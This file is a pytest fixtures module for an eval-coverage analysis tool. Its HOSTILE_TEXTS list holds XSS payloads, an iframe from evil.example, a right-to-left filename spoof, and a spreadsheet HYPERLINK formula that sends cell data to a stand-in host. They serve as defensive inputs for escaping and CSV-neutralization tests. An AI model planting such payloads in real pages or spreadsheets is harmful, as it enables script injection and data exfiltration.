"""Shared fixtures: the real default model, the shared real data sets, an isolated cache."""

from __future__ import annotations

import json
import logging
import os
import subprocess
import sys
import warnings
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parents[1]
SHARED_DATA = REPO.parent / "shared" / "data"
SAMPLE = REPO / "sample_data"
EVALS = SAMPLE / "evals.csv"


@pytest.fixture(scope="session", autouse=True)
def _isolated_cache(tmp_path_factory):
    """Every test, module fixtures included, embeds into this session's cache, never the user's."""
    before = os.environ.get("EVALCOV_CACHE_DIR")
    os.environ["EVALCOV_CACHE_DIR"] = str(tmp_path_factory.getbasetemp() / "cache")
    yield
    if before is None:
        os.environ.pop("EVALCOV_CACHE_DIR", None)
    else:
        os.environ["EVALCOV_CACHE_DIR"] = before


def run_python(code: str, *args: object, threads: int = 1, **env: str):
    """Run ``code`` in a fresh interpreter from the repo root with ``threads`` BLAS/OpenMP
    threads; returns the completed process (stdout, stderr as text)."""
    pools = ("OMP_NUM_THREADS", "MKL_NUM_THREADS", "OPENBLAS_NUM_THREADS")
    threads_env = {v: str(threads) for v in pools}
    return subprocess.run(
        [sys.executable, "-c", code, *map(str, args)],
        capture_output=True,
        text=True,
        env={**os.environ, **threads_env, **env},
        cwd=REPO,
        timeout=900,
    )


def run_cli(*args: object, cwd: Path | None = None) -> subprocess.CompletedProcess:
    """``python -m evalcov ARGS`` in a fresh interpreter: the real command, torch start
    included. os.environ carries the session's EVALCOV_CACHE_DIR, so runs share its cache."""
    return subprocess.run(
        [sys.executable, "-m", "evalcov", *map(str, args)],
        capture_output=True,
        text=True,
        env=dict(os.environ),
        cwd=cwd,
        timeout=600,
    )


def cli_main(capsys, *args: object) -> subprocess.CompletedProcess:
    """``evalcov.cli.main(ARGS)`` in this process, as :func:`run_cli` would see it: the exit
    status (argparse's SystemExit included), stdout and stderr, plus on stderr every warning
    that escapes, as a fresh interpreter would print it. Saves the ~10 s interpreter and torch
    start of a subprocess; what only a fresh process shows (model-loading chatter) is left to
    the one real run, ``cli_analyzed``."""
    from evalcov.cli import main

    capsys.readouterr()
    environ = dict(os.environ)
    stages = logging.getLogger("evalcov.stages")
    level = stages.level
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("default")
        for hidden in (DeprecationWarning, PendingDeprecationWarning, ImportWarning):
            warnings.simplefilter("ignore", hidden)
        try:
            status = main([str(a) for a in args])
        except SystemExit as exc:
            status = exc.code if isinstance(exc.code, int) else int(exc.code is not None)
        finally:
            # --quiet sets progress-bar variables, progress the stage log level, for the rest
            # of the process: undo them.
            os.environ.clear()
            os.environ.update(environ)
            stages.setLevel(level)
    out, err = capsys.readouterr()
    err += "".join(
        warnings.formatwarning(w.message, w.category, w.filename, w.lineno) for w in caught
    )
    return subprocess.CompletedProcess(["evalcov", *map(str, args)], status, out, err)


# The options of the shared CLI analysis (cli_analyzed); a test that needs the same batch with
# one flag changed runs them again in-process, on the warm cache.
CLI_OPTIONS = [
    *("--evals", EVALS, "--eval-text-col", "prompt", "--time-col", "timestamp"),
    *("--user-col", "user_id", "--freq", "MS", "-n", "20", "--format", "csv"),
]


@pytest.fixture(scope="session")
def cli_traffic(tmp_path_factory) -> Path:
    """Every 80th sample query (375), each text turned into a formula ("=..."), so the
    labeling CSV of the shared run shows formula neutralization on every row."""
    import pandas as pd

    path = tmp_path_factory.mktemp("cli") / "traffic.csv"
    traffic = pd.read_csv(SAMPLE / "traffic.csv.gz").iloc[::80]
    traffic.assign(text="=" + traffic["text"].astype(str)).to_csv(path, index=False)
    return path


@pytest.fixture(scope="session")
def cli_analyzed(cli_traffic, tmp_path_factory) -> tuple[subprocess.CompletedProcess, Path]:
    """The one real ``python -m evalcov analyze`` run the CLI tests share (tests/test_cli.py,
    tests/test_safe_csv.py), quiet, with every output: ``(result, folder)``; the folder holds
    report.html, summary.json and the labeling batch batch.csv."""
    out = tmp_path_factory.mktemp("cli_out")
    result = run_cli(
        *("analyze", cli_traffic, *CLI_OPTIONS, "--quiet"),
        *("--html", out / "report.html", "--json", out / "summary.json"),
        *("--export", out / "batch.csv"),
    )
    return result, out


@pytest.fixture(scope="session")
def shared_data() -> Path:
    if not SHARED_DATA.is_dir():
        pytest.skip("../shared/data is not present")
    return SHARED_DATA


@pytest.fixture(scope="session")
def clinc(shared_data) -> dict:
    """CLINC150 as {split: [(text, intent), ...]}; skipped when absent."""
    path = shared_data / "clinc150" / "data_full.json"
    if not path.is_file():
        pytest.skip("clinc150 is not present")
    return json.loads(path.read_text())


@pytest.fixture(scope="session")
def sample_report():
    """Every 10th row of the sample log (3,000 queries, with outcomes) analyzed against the
    sample eval set: ``(traffic, report)``. Shared by the modules that check the sample's
    planted structure, as one analysis of this size is all they need."""
    import pandas as pd

    import evalcov

    traffic = pd.read_csv(REPO / "sample_data" / "traffic.csv.gz").iloc[::10]
    return traffic, evalcov.analyze(
        traffic,
        REPO / "sample_data" / "evals.csv",
        text="text",
        eval_text="prompt",
        show_progress=False,
    )


# Texts that run code if a page or a spreadsheet ever treats them as markup. Each sets a marker
# attribute on <html> when it executes, so a browser test can tell.
HOSTILE_TEXTS = [
    "<script>document.documentElement.setAttribute('data-pwned','script')</script>",
    "<img src=x onerror=\"document.documentElement.setAttribute('data-pwned','img')\">",
    "<a href=\"javascript:document.documentElement.setAttribute('data-pwned','href')\">x</a>",
    "</script><script>document.documentElement.setAttribute('data-pwned','json')</script>",
    "<svg onload=\"document.documentElement.setAttribute('data-pwned','svg')\"></svg>",
    '<iframe src="http://evil.example/frame"></iframe>',
    "\u202egnp.exe card blocked",
    '=HYPERLINK("http://evil.example/?"&A1,"click") cancel my plan',
]


@pytest.fixture(scope="session")
def hostile_report(tmp_path_factory):
    """A real report whose traffic, eval prompts and cluster labels are hostile texts."""
    import pandas as pd

    import evalcov

    sample = REPO / "sample_data"
    traffic = pd.read_csv(sample / "traffic.csv.gz").iloc[::150].reset_index(drop=True)
    # Every third query carries a payload, so payloads are among every cluster's examples.
    for i in range(0, len(traffic), 3):
        payload = HOSTILE_TEXTS[(i // 3) % len(HOSTILE_TEXTS)]
        traffic.loc[i, "text"] = f"{payload} {traffic.loc[i, 'text']}"
    # Prompts of half the topics only, so the report has gaps whose examples reach the page.
    evals = pd.read_csv(sample / "evals.csv")
    kept = sorted(evals["topic"].unique())[::2]
    evals = evals.loc[evals["topic"].isin(kept), ["prompt"]].reset_index(drop=True)
    evals.loc[: len(HOSTILE_TEXTS) - 1, "prompt"] = [
        f"{p} {t}" for p, t in zip(HOSTILE_TEXTS, evals["prompt"], strict=False)
    ]

    def labeler(keywords: list[str], examples: list[str]) -> str:
        return HOSTILE_TEXTS[len(examples[0]) % len(HOSTILE_TEXTS)] + " " + ", ".join(keywords)

    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("EVALCOV_CACHE_DIR", str(tmp_path_factory.getbasetemp() / "cache"))
        return evalcov.analyze(
            traffic,
            evals,
            text="text",
            time="timestamp",
            eval_text="prompt",
            labeler=labeler,
            n_clusters=8,
            show_progress=False,
        )
